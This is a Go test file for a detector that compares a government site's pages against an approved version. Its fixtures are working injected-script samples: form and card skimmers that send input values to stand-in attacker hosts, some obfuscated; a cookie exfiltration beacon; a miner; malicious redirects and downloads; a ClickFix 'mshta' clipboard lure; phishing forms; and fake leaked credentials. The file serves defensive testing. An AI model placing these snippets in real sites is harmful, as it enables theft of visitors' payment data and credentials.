package compare

import (
	"encoding/base64"
	"strings"
	"testing"
)

// framed is a page with a frame of a stranger's, in which a form asks for a card
// and answers to the host it came from.
func framed(src string) func(testing.TB) Look { return framedIn(src, Box{20, 900, 280, 120}) }

func framedIn(src string, box Box) func(testing.TB) Look {
	return func(t testing.TB) Look {
		l := added(`<iframe src="` + src + `"></iframe>`)(t)
		v := &l.View
		for i, e := range v.Elements {
			if e.Tag == "iframe" {
				v.Frames[len(v.Frames)-1].Box = box
				v.Elements = append(v.Elements, Element{Parent: int32(i), Tag: "html", Box: box})
				v.Elements = append(v.Elements, Element{Parent: int32(len(v.Elements) - 1), Tag: "form", Box: box})
				v.Forms = append(v.Forms, Form{Action: "https://" + hostOf(src) + "/charge", Method: "post", Box: box,
					Inputs: []Input{{Kind: "text", Name: "cardnumber"}, {Kind: "text", Name: "cvv"}}})
				break
			}
		}
		return l
	}
}

// handler is a script in an attribute, as an onerror is.
func handler(source string) func(testing.TB) Look {
	return func(t testing.TB) Look {
		l := added("<img src=/x.gif>")(t)
		l.View.Scripts = append(l.View.Scripts, Script{Kind: "handler", Ran: true, Length: len(source), SHA256: digest(source)})
		l.Sources[digest(source)] = source
		return l
	}
}

func inBase64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

const everyInput = `var d={};document.querySelectorAll("input,select,textarea").forEach(function(f){d[f.name]=f.value});`

// What is done to sites alarms on a page that was approved once, seen three times
// the same, and is changing on its own: by a finding of the right kind, grave enough.
func TestCasesAgainstOneApprovedVersion(t *testing.T) {
	inline := func(code string) func(testing.TB) Look { return added("<script>" + code + "</script>") }
	once := external("https://www.planning.gov.pk/js/site.js", library("1.0"))(t)
	b := learned(once, once, once)
	appended := func(code string) func(testing.TB) Look {
		return external("https://www.planning.gov.pk/js/site.js", library("1.0")+code)
	}
	for name, tt := range map[string]struct {
		look   func(testing.TB) Look
		kind   Kind
		atMost Severity // the least that it is told with
	}{
		"form on change":           {inline(`[].forEach.call(document.querySelectorAll("form"),function(f){f.addEventListener("change",function(){var x=new XMLHttpRequest();x.open("POST",["ht","tp:","//form","-assist",".top/save"].join(""),true);var p=[];[].forEach.call(f.elements,function(e){p.push(e.name+"="+encodeURIComponent(e.value))});x.send(p.join("&"))})})`), Injection, Critical},
		"skimmer, hex":             {inline(`var u="` + escaped("https://drop.evil-pay.top/g") + `";` + everyInput + `fetch(u,{method:"POST",body:JSON.stringify(d)})`), Injection, High},
		"skimmer, base64 socket":   {inline(`var w=new WebSocket(atob("` + inBase64("wss://drop.evil-pay.top/ws") + `"));w.onopen=function(){` + everyInput + `w.send(JSON.stringify(d))}`), Injection, Critical},
		"skimmer, picture":         {inline(everyInput + `(new Image).src="https://px.evil-pay.top/i.gif?d="+btoa(JSON.stringify(d))`), Injection, Critical},
		"skimmer on checkout":      {inline(`if(/checkout|payment|challan/.test(location.href)){var s=document.createElement("script");s.src="https://cdn"+"n.evil-p"+"ay.top/c.js";document.head.appendChild(s)}`), Injection, High},
		"lookalike of analytics":   {external("https://www.google-analytlcs.top/ga.js", honestWidget), Injection, Critical},
		"other ending":             {external("https://www.googletagmanager.top/gtm.js", honestWidget), Injection, Critical},
		"lookalike, loaded":        {inline(`(function(){var s=document.createElement("script");s.async=1;s.src="https://www.googie-analytics.top/analytics.js";document.head.appendChild(s)})()`), Injection, High},
		"data attribute":           {external("https://fresh.evil-host.top/l.js", `(function(){var c=document.currentScript,s=document.createElement("script");s.src=atob(c.dataset.k);document.head.appendChild(s)})()`), Injection, High},
		"onerror":                  {handler(`eval(atob("` + inBase64(`var s=document.createElement("script");s.src="https://x.evil-host.top/a.js";document.body.appendChild(s)`) + `"))`), Injection, High},
		"onerror, from elsewhere":  {handler(`eval(atob(this.getAttribute("data-x")))`), Injection, High},
		"phones sent away":         {appended(`;if(/android|iphone/i.test(navigator.userAgent)&&!localStorage.getItem("v")){setTimeout(function(){top.location="//m-prizes.evil-win.top/w"},1500)}`), Injection, High},
		"searchers sent away":      {inline(`if(/google|bing/.test(document.referrer)){location.replace("https://evil-go.top/x")}`), Injection, High},
		"phones get a program":     {appended(`;window.addEventListener("load",function(){var a=document.createElement("a");a.href="//apk.evil-gov.top/app-update.apk";a.download="";document.body.appendChild(a);if(/android/i.test(navigator.userAgent))a.click()})`), Injection, High},
		"cookies by way of a name": {inline(`var c=document.cookie,b={};c.split(";").forEach(function(p){b[p]=1});var i=document.createElement("img");i.src="https://drop.evil-jar.top/j?c="+encodeURIComponent(c);document.body.appendChild(i)`), Injection, High},
		"miner without names":      {inline(`var w=new Worker(URL.createObjectURL(new Blob(["onmessage=function(e){}"])));var s=new WebSocket("wss://pool.evil-relay.top/p");w.onmessage=function(m){s.send(m.data)}`), Injection, High},
		"push for a stranger":      {inline(`navigator.serviceWorker.register("/sw-1.js").then(function(r){return r.pushManager.subscribe({userVisibleOnly:true})}).then(function(s){fetch("https://push.evil-ntfy.top/sub",{method:"POST",body:JSON.stringify(s)})})`), Injection, High},
		"slot links":               {added(`<div style="position:absolute;left:-9999px"><a href="https://a.evil-slot.top/">slot gacor</a><a href="https://b.evil-slot.top/">situs judi</a></div>`), Injection, High},
		"pharmacy links":           {added(`<div><a href="https://a.evil-rx.top/">buy viagra online</a> <a href="https://b.evil-rx.top/">cialis</a> <a href="https://c.evil-rx.top/">online pharmacy</a></div>`), Injection, High},
		"essays":                   {added(`<div style="display:none"><a href="https://a.evil-essay.top/">write my essay</a></div>`), Injection, High},
		"pasted command":           {added(`<div><p>Verify you are human</p><ol><li>Press Windows + R</li><li>Press Ctrl + V</li><li>Press Enter</li></ol></div>`), Injection, High},
		"fake check of a front":    {added(`<div><h2>Checking your browser</h2><p>Cloudflare needs to verify: press Win + R, then CTRL + V, then OK</p></div><script>document.onclick=function(){navigator.clipboard.writeText("mshta https://evil-cf.top/v")}</script>`), Injection, Critical},
		"login goes astray":        {replaced("action=/login", "action=https://egov-login.evil-in.top/s"), Injection, Critical},
		"search goes astray":       {replaced("action=/search", "action=https://egov-login.evil-in.top/s"), Injection, High},
		"asks again":               {added(`<form method=post action="https://verify.evil-in.top/a"><input name=cnic><input type=password name=password></form>`), Injection, Critical},
		"rented payment page":      {framed("https://secure-pay-gov.pages.dev/card"), Injection, Critical},
		"payment over the page":    {framedIn("https://secure-pay.evil-card.top/card", Box{0, 0, 1366, 768}), Injection, Critical},
		"two pills":                {added(`<p>Buy <a href="https://a.evil-rx.top/">viagra</a> or cialis</p>`), Injection, High},
		"update to run":            {added(`<div>You are using an older version of Chrome <a href="https://dl.evil-chrome.top/ChromeSetup.exe">Update Chrome</a></div>`), Injection, High},
		"form that is a program":   {added(`<p><a href="https://files.evil-depot.top/Form_A.pdf.exe">Form A</a></p>`), Injection, Critical},
		"settings":                 {wholePage("", "<pre>APP_ENV=production\nDB_USERNAME=portal_rw\nDB_PASSWORD=Kh4ir9pur77\nMAIL_PASSWORD=q8Zt5LmPw2</pre>"), Leak, Critical},
		"git":                      {wholePage("", "<pre>[core] repositoryformatversion = 0 filemode = true [remote \"origin\"] url = https://git.vendor.top/gov/portal.git</pre>"), Leak, High},
		"phpinfo":                  {wholePage("PHP 7.2 - phpinfo()", "<h1>PHP Version 7.2.24</h1><table><tr><td>Loaded Configuration File</td><td>/etc/php.ini</td></tr></table>"), Leak, High},
		"dump":                     {wholePage("", "<pre>-- MySQL dump 10.13 Distrib 8.0.36 -- CREATE TABLE `users` ( `id` int ); INSERT INTO `users` VALUES (1,'a');</pre>"), Leak, Critical},
		"listing":                  {wholePage("Index of /", "<h1>Index of /</h1><pre><a href=../>../</a><a href=db.sql>db.sql</a></pre>"), Leak, High},
		"identities in Urdu": {added("<div dir=rtl><h3>امیدواروں کی فہرست</h3>" + strings.Map(func(r rune) rune {
			if r >= '0' && r <= '9' {
				return '۰' + r - '0'
			}
			return r
		}, "<p>35202-1234567-1</p><p>42101-7654321-9</p><p>17301-2345678-3</p><p>61101-3456789-5</p><p>54401-4567890-7</p><p>36302-5678901-1</p>") + "</div>"), Leak, High},
		"cards in groups": {added("<pre>4716 0219 8834 5073 09/27 123 A 5312 7700 4419 6285 02/28 004 B 4929 3301 8726 0451 11/29 551 C</pre>"), Leak, High},
	} {
		t.Run(name, func(t *testing.T) {
			r := Compare(b, tt.look(t), nil)
			if r.Verdict != Alert || r.Findings[0].Kind != tt.kind || r.Findings[0].Severity.Rank() < tt.atMost.Rank() {
				t.Errorf("want %s, %s: %s", tt.kind, tt.atMost, describe(r))
			}
		})
	}
}

// What owners do that looks like it pages nobody.
func TestHonestCasesAgainstOneApprovedVersion(t *testing.T) {
	inline := func(code string) func(testing.TB) Look { return added("<script>" + code + "</script>") }
	once := external("https://www.planning.gov.pk/js/site.js", library("1.0"))(t)
	b := learned(once, once, once)
	for name, look := range map[string]func(testing.TB) Look{
		"payment frame":         framed("https://secure.paygate-example.com/pay"),
		"phones to the own app": inline(`if(/android/i.test(navigator.userAgent)){location.href="https://play.google.com/store/apps/details?id=pk.gov.planning"}`),
		"phones to the own m.":  inline(`if(/iphone/i.test(navigator.userAgent)){location.href="https://m.planning.gov.pk/"}`),
		"old browsers":          inline(`if(/MSIE|Trident/.test(navigator.userAgent)){location.href="https://browsehappy.com/"}`),
		"shop of notifications": external("https://cdn.example-push.com/sdk.js", `navigator.serviceWorker.register("/push-sw.js").then(function(r){return r.pushManager.subscribe({userVisibleOnly:true})}).then(function(s){fetch("https://cdn.example-push.com/sub",{method:"POST",body:JSON.stringify(s)})})`),
		"own service worker":    inline(`if("serviceWorker" in navigator){navigator.serviceWorker.register("/sw.js")}fetch("/api/visits")`),
		"own worker":            inline(`var w=new Worker("/js/sort.js");w.onmessage=function(m){fetch("/api/sorted",{method:"POST",body:m.data})}`),
		"share window":          inline(`document.addEventListener("click",function(e){if(e.target.id=="tw")window.open("https://twitter.com/share?u="+location.href)})`),
		"reader of documents":   added(`<p>Install <a href="https://get.adobe.com/reader/">Adobe Reader</a> to open the form.</p>`),
		"own program":           added(`<p>Download and install <a href="/files/iris-setup.exe">the return software</a>.</p>`),
		"library by parts":      inline("var v='3.7.1';var s=document.createElement('script');s.src=`https://cdn.jsdelivr.net/npm/jquery@${v}/dist/jquery.min.js`;document.head.appendChild(s)"),
		"pictures that wait":    inline(`document.querySelectorAll("img").forEach(function(i){i.src=atob(i.dataset.src)})`),
		"analytics of a name":   external("https://cdn.example-analytics.org/a.js", honestWidget),
	} {
		t.Run(name, func(t *testing.T) {
			if r := Compare(b, look(t), nil); r.Verdict == Alert {
				t.Error(describe(r))
			}
		})
	}
}
